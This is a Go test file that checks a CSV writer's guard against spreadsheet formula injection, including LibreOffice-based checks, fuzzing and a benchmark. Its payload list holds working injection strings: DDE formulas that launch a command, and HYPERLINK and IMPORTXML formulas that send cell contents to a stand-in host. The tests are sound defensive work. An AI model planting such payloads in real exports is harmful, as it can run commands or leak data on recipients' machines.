package csvout

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/dropledger/dropledger/model"
	"github.com/dropledger/dropledger/reports"
	"github.com/dropledger/dropledger/reports/reportstest"
)

// payloads are texts that some spreadsheet runs, splits or swallows.
var payloads = []string{
	"=1+1", "=1", "+1", "-1", "@SUM(1)", "=cmd|' /C calc'!A0", `=HYPERLINK("http://x.example/?"&A1,"click")`, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "   =1+1", "\u00A0=1+1", "\u200B=1+1", "\uFEFF=1+1", ";=1+1", ",=1+1", "|=1+1",
	"a;=1+1", "a\n=1+1", "a\t=1+1", `"=1+1`, `"=1+1"`, `""=1+1`, "＝1+1", "＋1", "－1", "＠SUM(1)", "−1", "'=1+1", "''=1+1", "'", "=", "-", "--",
	"+49 30 123456", "=IMPORTXML(\"http://x.example\",\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "%0A=1+1", "\x0b=1+1", "\\=1+1", "=1+1 ",
}

func table() *reports.Table {
	t := &reports.Table{Columns: []reports.Column{
		{Key: "id", Label: "Our id", Kind: reports.KindIdentifier},
		{Key: "note", Label: "Note", Kind: reports.KindText},
		{Key: "net", Label: "Net", Kind: reports.KindAmount},
		{Key: "placed", Label: "Placed", Kind: reports.KindDate},
	}}
	for i, p := range payloads {
		t.Add(reports.Identifier(fmt.Sprint("DL-", i)), reports.Text(p), reports.Amount(model.MustAmount("-5"), "EUR"), reports.Date("2026-10-31"))
	}
	return t
}

func written(t *testing.T, table *reports.Table, f Format) string {
	t.Helper()
	var b bytes.Buffer
	if err := Write(&b, table, f); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func TestWrite_ForPrograms(t *testing.T) {
	table := &reports.Table{Columns: []reports.Column{
		{Key: "sku", Label: "Our SKU", Kind: reports.KindIdentifier},
		{Key: "name", Label: "Name", Kind: reports.KindText},
		{Key: "net", Label: "Net", Kind: reports.KindAmount},
		{Key: "late", Label: "Late", Kind: reports.KindFlag},
	}}
	table.Add(reports.Identifier("00123"), reports.Text("=1+1"), reports.Amount(model.MustAmount("-5"), "EUR"), reports.Flag(true))
	table.Add(reports.Identifier("a,b"), reports.Text("say \"hi\"\nthere"), reports.Unknown(), reports.Unknown())
	table.Add(reports.Identifier(" x"), reports.Text("nul\x00 \xff"), reports.Unknown(), reports.Unknown())
	table.Sum("net")
	tests := []struct {
		name   string
		format Format
		want   string
	}{
		{"as it is", Format{}, "sku,name,net,late\r\n00123,=1+1,-5.00,true\r\n\"a,b\",\"say \"\"hi\"\"\nthere\",,\r\n\" x\",nul \uFFFD,,\r\n"},
		{"another delimiter, no header", Format{Delimiter: ';', NoHeader: true}, "00123;=1+1;-5.00;true\r\n\"a,b\";\"say \"\"hi\"\"\nthere\";;\r\n\" x\";nul \uFFFD;;\r\n"},
		{"for a spreadsheet", Format{Spreadsheet: true}, "\uFEFF\"Our SKU\",\"Name\",\"Net\",\"Late\"\r\n\"00123\",\"'=1+1\",-5.00,true\r\n\"a,b\",\"say \"\"hi\"\"\nthere\",,\r\n\" x\",\"nul \uFFFD\",,\r\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := written(t, table, tt.format); got != tt.want {
				t.Errorf("got\n%q\nwant\n%q", got, tt.want)
			}
		})
	}
}

func TestWrite_EveryTextComesBack(t *testing.T) {
	for _, spreadsheet := range []bool{false, true} {
		t.Run(fmt.Sprint("spreadsheet ", spreadsheet), func(t *testing.T) {
			text := strings.TrimPrefix(written(t, table(), Format{Spreadsheet: spreadsheet}), "\uFEFF")
			records, err := csv.NewReader(strings.NewReader(text)).ReadAll()
			if err != nil || len(records) != len(payloads)+1 {
				t.Fatalf("%d records, %v", len(records), err)
			}
			for i, want := range payloads {
				got := records[i+1][1]
				if spreadsheet {
					got = Unguard(got)
				}
				if got != want {
					t.Errorf("%q came back as %q", want, got)
				}
			}
		})
	}
}

func TestWrite_ASingleEmptyFieldIsStillARow(t *testing.T) {
	one := &reports.Table{Columns: []reports.Column{{Key: "a", Kind: reports.KindText}}}
	one.Add(reports.Unknown())
	one.Add(reports.Text("x"))
	if got := written(t, one, Format{}); got != "a\r\n\"\"\r\nx\r\n" {
		t.Errorf("got %q", got)
	}
}

func TestGuard_LeavesHarmlessTextAlone(t *testing.T) {
	for _, s := range []string{"", "Müller", "00123", "a=b", "2-3", "x@y.example", "(=1)", "1E5", "%1"} {
		if got := Guard(s); got != s {
			t.Errorf("%q became %q", s, got)
		}
	}
}

func FuzzGuard(f *testing.F) {
	for _, p := range payloads {
		f.Add(p)
	}
	f.Fuzz(func(t *testing.T, s string) {
		g := Guard(s)
		if Unguard(g) != s || dangerous(g) {
			t.Errorf("%q became %q", s, g)
		}
	})
}

func TestWrite_LibreOfficeFindsNoFormula(t *testing.T) {
	for name, tokens := range map[string]string{"comma": "44", "comma and semicolon": "44/59", "comma, semicolon, tab and bar": "44/59/9/124"} {
		t.Run(name, func(t *testing.T) {
			path := filepath.Join(t.TempDir(), "payloads.csv")
			if err := os.WriteFile(path, []byte(written(t, table(), Format{Spreadsheet: true})), 0o600); err != nil {
				t.Fatal(err)
			}
			flat := reportstest.Office(t, path, "Text - txt - csv (StarCalc):"+tokens+",34,76,1", "fods")
			if formulas := regexp.MustCompile(`table:formula="[^"]*"`).FindAllString(flat, -1); len(formulas) != 0 {
				t.Errorf("formulas: %q", formulas)
			}
			if n := strings.Count(flat, `office:value="-5"`); n != len(payloads) {
				t.Errorf("%d of %d negative amounts are numbers", n, len(payloads))
			}
		})
	}
}

// Without the guard LibreOffice does make formulas: the test above can fail.
func TestWrite_LibreOfficeRunsUnguardedText(t *testing.T) {
	path := filepath.Join(t.TempDir(), "payloads.csv")
	if err := os.WriteFile(path, []byte(written(t, table(), Format{})), 0o600); err != nil {
		t.Fatal(err)
	}
	if flat := reportstest.Office(t, path, "Text - txt - csv (StarCalc):44,34,76,1", "fods"); !strings.Contains(flat, "table:formula=") {
		t.Error("no formula: the check of the guard proves nothing")
	}
}

func BenchmarkWrite_100kRows12Columns(b *testing.B) {
	t := &reports.Table{Columns: make([]reports.Column, 12)}
	for i := range 100_000 {
		row := make([]reports.Cell, 12)
		for c := range row {
			row[c] = reports.Text("Jürgen Müller")
			if c%2 == 0 {
				row[c] = reports.Amount(model.Amount(i*12_300), "EUR")
			}
		}
		t.Add(row...)
	}
	for b.Loop() {
		if err := Write(io.Discard, t, Format{Spreadsheet: true}); err != nil {
			b.Fatal(err)
		}
	}
}

func TestWrite_EitherGuardsFormulasAndLeavesTelephoneNumbers(t *testing.T) {
	table := &reports.Table{Columns: []reports.Column{{Key: "phone"}, {Key: "name"}}}
	table.Add(reports.Text("+49 (30) 12345-6"), reports.Text("=HYPERLINK(1)"))
	table.Add(reports.Text("-"), reports.Text("+cmd|x"))
	var b bytes.Buffer
	if err := Write(&b, table, Format{Either: true}); err != nil {
		t.Fatal(err)
	}
	want := "phone,name\r\n+49 (30) 12345-6,'=HYPERLINK(1)\r\n-,\"'+cmd|x\"\r\n"
	if b.String() != want {
		t.Errorf("got %q, want %q", b.String(), want)
	}
}
